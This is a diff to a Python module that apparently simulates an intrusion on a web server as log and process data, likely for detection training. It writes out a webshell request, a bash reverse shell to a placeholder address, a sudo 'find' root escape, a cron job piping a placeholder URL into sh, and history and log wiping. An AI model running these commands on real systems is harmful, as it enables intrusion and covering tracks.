@@ -13,6 +13,9 @@ __all__ = ["STAGE"]
 
 _HOST, _USER = "web-01", "www-data"
 _INTRUDER = "203.0.113.45"
+_FOLDER = "/srv/portal/uploads/avatars"
+_WORKER = 1187
+"""The web server's worker process, which runs what is uploaded."""
 _AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:102.0) Gecko/20100101 Firefox/102.0"
 
 
@@ -87,14 +90,14 @@ def _command(attack: Attack) -> None:
                 _INTRUDER,
                 Request(f"/uploads/avatars/8841.phtml?x={quote(command)}", size=80 + turn * 300, agent=_AGENT),
             )
-            host.execute(moment + turn * 14, Execution(("/bin/sh", "-c", command), 33, directory="/srv/portal/uploads/avatars"))
-            host.execute(moment + turn * 14 + 0.02, Execution(command.split(), 33, directory="/srv/portal/uploads/avatars"))
+            shell = host.execute(moment + turn * 14, Execution(("/bin/sh", "-c", command), 33, directory=_FOLDER, parent=_WORKER))
+            host.execute(moment + turn * 14 + 0.02, Execution(command.split(), 33, directory=_FOLDER, parent=shell))
     moment = company.clock.at("06:57:41")
     with attack.doing(moment, _REVERSE):
         command = f"bash -i >& /dev/tcp/{_INTRUDER}/4444 0>&1"
         company.visit(moment, _INTRUDER, Request(f"/uploads/avatars/8841.phtml?x={quote(command)}", status=504, size=160, agent=_AGENT))
-        host.execute(moment, Execution(("/bin/sh", "-c", command), 33, directory="/srv/portal/uploads/avatars"))
-        host.execute(moment + 0.03, Execution(("/bin/bash", "-i"), 33, directory="/srv/portal/uploads/avatars"))
+        shell = host.execute(moment, Execution(("/bin/sh", "-c", command), 33, directory=_FOLDER, parent=_WORKER))
+        attack.shells["web"] = host.execute(moment + 0.03, Execution(("/bin/bash", "-i"), 33, directory=_FOLDER, parent=shell))
         company.network.connection(moment + 0.05, Flow(host.ip, company.network.port(), _INTRUDER, 4444, "-", 2900.0, 41_000, 16_000))
     moment = company.clock.at("12:02:02")
     with attack.doing(moment, _HIDDEN_SHELL):
@@ -106,10 +109,12 @@ def _stay(attack: Attack) -> None:
     company, host = attack.company, attack.company.linux[_HOST]
     moment = company.clock.at("07:06:19")
     with attack.doing(moment, _ROOT):
-        host.execute(moment, Execution(("sudo", "-l"), 33, directory="/tmp"))  # noqa: S108 - told in a log, not used
+        user = attack.shells["web"]
+        host.execute(moment, Execution(("sudo", "-l"), 33, directory=_FOLDER, parent=user))
         host.sudo(moment + 20, "www-data", "/usr/bin/find /srv/portal/cache -exec /bin/sh ; -quit", "/var")
-        host.execute(moment + 20, Execution(("/usr/bin/find", "/srv/portal/cache", "-exec", "/bin/sh", ";", "-quit"), 0, directory="/tmp"))  # noqa: S108 - told in a log, not used
-        host.execute(moment + 20.1, Execution(("/bin/sh",), 0, directory="/tmp"))  # noqa: S108 - told in a log, not used
+        escape = ("/usr/bin/find", "/srv/portal/cache", "-exec", "/bin/sh", ";", "-quit")
+        found = host.execute(moment + 20, Execution(escape, directory=_FOLDER, parent=user))
+        root = attack.shells["root"] = host.execute(moment + 20.1, Execution(("/bin/sh",), directory=_FOLDER, parent=found))
     moment = company.clock.at("07:13:02")
     with attack.doing(moment, _CRON):
         host.execute(
@@ -122,7 +127,11 @@ def _stay(attack: Attack) -> None:
             beat = company.clock.at(f"{9 + turn * 2:02d}:17:01")
             pid = host.pid()
             host.log(beat, "CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)", pid)
-            host.execute(beat + 0.1, Execution(("/bin/sh", "-c", "curl -fs http://cdn-update.example.net/l | sh"), 0, 0, "/"))
+            shell = host.execute(
+                beat + 0.1, Execution(("/bin/sh", "-c", "curl -fs http://cdn-update.example.net/l | sh"), 0, 0, "/", parent=pid)
+            )
+            host.execute(beat + 0.11, Execution(("curl", "-fs", "http://cdn-update.example.net/l"), 0, 0, "/", parent=shell))
+            host.execute(beat + 0.12, Execution(("/bin/sh",), 0, 0, "/", parent=shell))
             host.log(beat + 2, "CRON", "pam_unix(cron:session): session closed for user root", pid)
     moment = company.clock.at("07:15:48")
     with attack.doing(moment, _KEY):
@@ -134,8 +143,8 @@ def _stay(attack: Attack) -> None:
         attack.company.linux[_HOST].accept(moment + 600, "root", peer, "publickey")
     moment = company.clock.at("08:02:30")
     with attack.doing(moment, _HISTORY):
-        host.execute(moment, Execution(("/bin/sh", "-c", "unset HISTFILE; ln -sf /dev/null /root/.bash_history"), 0))
-        host.execute(moment + 4, Execution(("shred", "-u", "/var/log/nginx/portal-error.log"), 0))
+        host.execute(moment, Execution(("/bin/sh", "-c", "unset HISTFILE; ln -sf /dev/null /root/.bash_history"), parent=root))
+        host.execute(moment + 4, Execution(("shred", "-u", "/var/log/nginx/portal-error.log"), parent=root))
 
 
 STAGE = Stage(order=5, title="The web server", act=_act)
